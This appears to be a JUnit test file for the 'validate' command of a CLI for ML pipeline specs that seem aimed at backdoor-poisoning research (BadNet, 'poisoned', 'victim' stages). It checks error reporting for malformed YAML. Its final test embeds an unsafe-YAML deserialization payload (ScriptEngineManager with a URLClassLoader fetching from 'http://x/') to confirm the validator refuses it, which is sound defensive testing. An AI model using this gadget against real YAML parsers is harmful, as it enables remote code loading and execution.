package org.abdflow.cli;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.junit.Assert.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;
import picocli.CommandLine;

public class ValidateCommandTest {
  @Rule public final TemporaryFolder tmp = new TemporaryFolder();

  private String[] run(String... args) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    PrintStream oldOut = System.out;
    PrintStream oldErr = System.err;
    System.setOut(new PrintStream(out, true, StandardCharsets.UTF_8));
    System.setErr(new PrintStream(err, true, StandardCharsets.UTF_8));
    int rc;
    try {
      rc = new CommandLine(new AbdflowCommand()).execute(args);
    } finally {
      System.setOut(oldOut);
      System.setErr(oldErr);
    }
    return new String[] {String.valueOf(rc), out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8)};
  }

  @Test
  public void everyProblemIsPrintedWithFileLineAndKey() throws Exception {
    Path spec = tmp.newFile("broken.yaml").toPath();
    Files.writeString(spec,
        """
        pipeline:
          transforms:
            - {type: IdxSource, name: data, config: {images: x.gz}}
            - {type: BadNett, name: poisoned, input: data, config: {target: bag}}
            - type: BadNet
              name: poisoned2
              input: nowhere
              config:
                target: bag
                size: 0
                colour: red
            - {type: Train, name: victim, input: [victim2], config: {epochs: -1}}
            - {type: Train, name: victim2, input: [victim], config: {lr: fast}}
        """);
    String[] r = run("validate", spec.toString());
    assertEquals("2", r[0]);
    String err = r[2];
    assertThat(err, containsString(spec + ":4:"));
    assertThat(err, containsString("unknown type BadNett"));
    assertThat(err, containsString("BadNet"));
    assertThat(err, containsString(spec + ":7:"));
    assertThat(err, containsString("nowhere"));
    assertThat(err, containsString(spec + ":10:"));
    assertThat(err, containsString("config.size"));
    assertThat(err, containsString(spec + ":11:"));
    assertThat(err, containsString("colour"));
    assertThat(err, containsString("config.epochs"));
    assertThat(err, containsString("config.lr"));
    assertThat(err, containsString("cycle"));
  }

  @Test
  public void aGoodSpecValidatesAndMissingDataIsReportedBeforeTheRun() throws Exception {
    Path dir = tmp.getRoot().toPath();
    TestData.writeIdx(dir.resolve("i.gz"), dir.resolve("l.gz"), 10, 1);
    Path good = dir.resolve("good.yaml");
    Files.writeString(good, "pipeline:\n  transforms:\n    - {type: IdxSource, name: d, config: {images: i.gz, labels: l.gz}}\n");
    String[] ok = run("validate", good.toString());
    assertEquals(ok[2], "0", ok[0]);
    assertThat(ok[1], containsString("OK"));

    Path missing = dir.resolve("missing.yaml");
    Files.writeString(missing, "pipeline:\n  transforms:\n    - {type: IdxSource, name: d, config: {images: nothing.gz, labels: l.gz}}\n");
    String[] bad = run("validate", missing.toString());
    assertEquals("2", bad[0]);
    assertThat(bad[2], containsString("nothing.gz"));
  }

  @Test
  public void aLossTermsOwnConfigIsCheckedBeforeTheRun() throws Exception {
    Path dir = tmp.getRoot().toPath();
    TestData.writeIdx(dir.resolve("i.gz"), dir.resolve("l.gz"), 10, 1);
    Path spec = dir.resolve("loss.yaml");
    Files.writeString(spec,
        """
        pipeline:
          transforms:
            - {type: IdxSource, name: d, config: {images: i.gz, labels: l.gz}}
            - type: Train
              name: m
              input: d
              config:
                losses: [ClipLoss, {type: UniModalLoss, config: {wieght: 0.5}}]
        """);
    String[] r = run("validate", spec.toString());
    assertEquals("2", r[0]);
    assertThat(r[2], containsString("losses[1] (UniModalLoss).wieght"));
    assertThat(r[2], containsString("weight"));

    Files.writeString(spec, Files.readString(spec).replace("{wieght: 0.5}", "{weight: 0.5}").replace("ClipLoss,", "{type: RoClipLoss, config: {breakEpoch: 3}},"));
    String[] ok = run("validate", spec.toString());
    assertEquals(ok[2], "0", ok[0]);
  }

  @Test
  public void unsafeYamlTagsAreRefused() throws Exception {
    Path spec = tmp.newFile("evil.yaml").toPath();
    Files.writeString(spec, "pipeline: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
    String[] r = run("validate", spec.toString());
    assertEquals("2", r[0]);
    assertThat(r[2], containsString(spec + ":1:"));
  }
}
